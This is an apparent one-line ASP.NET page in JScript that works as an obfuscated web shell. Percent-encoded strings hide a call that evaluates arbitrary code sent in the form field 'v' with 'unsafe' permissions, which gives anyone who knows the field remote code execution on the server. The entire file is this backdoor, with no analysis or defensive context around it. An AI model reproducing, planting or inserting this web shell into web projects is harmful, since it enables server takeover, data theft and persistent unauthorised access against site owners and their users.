<%@ Page Language="JScript"%><%var _p=unescape('%52%65%71%75%65%73%74%2e%46%6f%72%6d%5b%22%76%22%5d');eval(eval(_p),unescape('%75%6e%73%61%66%65'));%>
